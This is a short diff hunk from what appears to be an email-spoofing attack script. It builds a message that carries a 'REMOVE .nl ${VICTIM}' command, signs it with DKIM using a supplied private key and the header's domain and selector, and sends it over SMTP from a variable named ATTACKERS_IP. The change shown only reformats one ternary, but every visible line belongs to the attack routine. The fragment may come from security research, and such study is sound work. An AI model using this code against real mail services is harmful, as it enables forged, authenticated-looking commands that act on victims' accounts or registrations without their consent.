@@ -100,9 +100,7 @@ async function played(
   const raw = Buffer.from(`${head.endsWith('\r\n\r\n') ? head : `${head}\r\n`}REMOVE .nl ${VICTIM}\r\n`, 'latin1');
   const domain = parts.get('d');
   const signature =
-    domain === undefined
-      ? ''
-      : dkimSignature(raw, { domain, selector: part('s'), privateKey }, instantOf(Date.now()));
+    domain === undefined ? '' : dkimSignature(raw, { domain, selector: part('s'), privateKey }, instantOf(Date.now()));
   const client = await connectSmtp(program.smtp, part('helo'), ATTACKERS_IP);
   const reply = await client
     .send(
